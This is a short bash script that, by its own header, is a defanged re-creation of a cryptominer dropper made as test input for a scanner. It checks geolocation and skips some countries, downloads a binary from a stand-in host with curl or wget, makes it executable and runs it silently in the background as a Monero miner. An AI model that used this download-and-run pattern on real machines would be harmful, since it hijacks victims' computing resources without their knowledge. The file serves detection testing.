#!/bin/bash
# DEFANGED re-creation for Bulwark's scanner tests. Never run. Addresses are TEST-NET.
IP=$(curl -k https://geoip.example.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://192.0.2.10/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
      wget http://192.0.2.10/download/jsextension -O jsextension
    fi
    chmod +x ./jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u WALLET-REMOVED --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
